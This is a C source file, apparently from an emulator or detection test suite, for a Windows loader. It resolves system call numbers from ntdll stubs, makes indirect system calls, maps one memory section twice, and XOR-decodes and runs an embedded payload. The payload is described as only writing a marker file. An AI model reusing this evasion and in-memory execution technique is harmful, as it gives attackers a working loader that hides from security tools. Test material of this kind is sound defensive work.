/*
 * loader.c - generality suite: a section mapped twice in the loader's own process by indirect
 * system calls (benign, emulator-only; see ../../lineage-common/common.h).
 *
 * Reads the system service numbers of NtCreateSection and NtMapViewOfSection from ntdll's stubs
 * and makes each call by jumping to the `syscall` instruction of NtYieldExecution's stub with its
 * own number (indirect). It creates a paging-file section (PAGE_EXECUTE_READWRITE, SEC_COMMIT),
 * maps it read-write and read-execute, XOR-decodes the payload embedded in its data into the
 * writable view (one-byte key 0x2e) and calls the executable view: the views share their bytes.
 * The payload (../lineage-common/payload.c) writes C:\Users\Public\lineage_mapself.txt.
 * Exit codes: 0 ok, 1 no marker, 3 no system call numbers, 4 section.
 */
#include "common.h"
#include "payload.h"

typedef LONG NTSTATUS_T;
DWORD ssn_value;        /* read by isyscall */
ULONG_PTR syscall_insn; /* the syscall instruction isyscall jumps to */

__asm__(".text\n"
        ".globl isyscall\n"
        "isyscall:\n"
        "  mov %rcx, %r10\n"
        "  mov ssn_value(%rip), %eax\n"
        "  jmp *syscall_insn(%rip)\n");
NTSTATUS_T isyscall(ULONG_PTR, ULONG_PTR, ULONG_PTR, ULONG_PTR, ULONG_PTR, ULONG_PTR, ULONG_PTR, ULONG_PTR,
                    ULONG_PTR, ULONG_PTR, ULONG_PTR);

static const unsigned char *stub_of(HMODULE ntdll, const char *name)
{
    const unsigned char *stub = (const unsigned char *)GetProcAddress(ntdll, name);
    if (!stub || stub[0] != 0x4C || stub[1] != 0x8B || stub[2] != 0xD1 || stub[3] != 0xB8)
        return 0;
    return stub;
}

static NTSTATUS_T sys(DWORD number, ULONG_PTR a, ULONG_PTR b, ULONG_PTR c, ULONG_PTR d, ULONG_PTR e, ULONG_PTR f,
                      ULONG_PTR g, ULONG_PTR h, ULONG_PTR i, ULONG_PTR j, ULONG_PTR k)
{
    ssn_value = number;
    return isyscall(a, b, c, d, e, f, g, h, i, j, k);
}

#define VIEW_UNMAP 2

void Entry(void)
{
    static struct sc_ctx ctx;
    typedef DWORD (WINAPI *entry_t)(struct sc_ctx *);
    const unsigned char *s_section, *s_map, *donor;
    DWORD n_section, n_map, i;
    HANDLE section = 0;
    LARGE_INTEGER max_size;
    unsigned char *rw = 0, *rx = 0;
    SIZE_T view;
    HMODULE ntdll;

    if (!marker_present())
        ExitProcess(1);
    ntdll = GetModuleHandleA("ntdll.dll");
    s_section = stub_of(ntdll, "NtCreateSection");
    s_map = stub_of(ntdll, "NtMapViewOfSection");
    donor = stub_of(ntdll, "NtYieldExecution");
    if (!s_section || !s_map || !donor)
        ExitProcess(3);
    n_section = *(const DWORD *)(s_section + 4);
    n_map = *(const DWORD *)(s_map + 4);
    for (i = 8; i < 30 && !syscall_insn; i++)
        if (donor[i] == 0x0F && donor[i + 1] == 0x05 && donor[i + 2] == 0xC3)
            syscall_insn = (ULONG_PTR)(donor + i);
    if (!syscall_insn)
        ExitProcess(3);
    max_size.QuadPart = 0x1000;
    if (sys(n_section, (ULONG_PTR)&section, SECTION_ALL_ACCESS, 0, (ULONG_PTR)&max_size, PAGE_EXECUTE_READWRITE,
            SEC_COMMIT, 0, 0, 0, 0, 0) != 0 || !section)
        ExitProcess(4);
    view = 0;
    if (sys(n_map, (ULONG_PTR)section, (ULONG_PTR)-1, (ULONG_PTR)&rw, 0, 0, 0, (ULONG_PTR)&view, VIEW_UNMAP, 0,
            PAGE_READWRITE, 0) != 0 || !rw)
        ExitProcess(4);
    view = 0;
    if (sys(n_map, (ULONG_PTR)section, (ULONG_PTR)-1, (ULONG_PTR)&rx, 0, 0, 0, (ULONG_PTR)&view, VIEW_UNMAP, 0,
            PAGE_EXECUTE_READ, 0) != 0 || !rx || rx == rw)
        ExitProcess(4);
    for (i = 0; i < sizeof(payload_enc); i++)
        rw[i] = payload_enc[i] ^ 0x2e;
    fill_ctx(&ctx, "C:\\Users\\Public\\lineage_mapself.txt", "written through one view, run from another\n");
    ExitProcess(((entry_t)(void *)rx)(&ctx) ? 6 : 0);
}
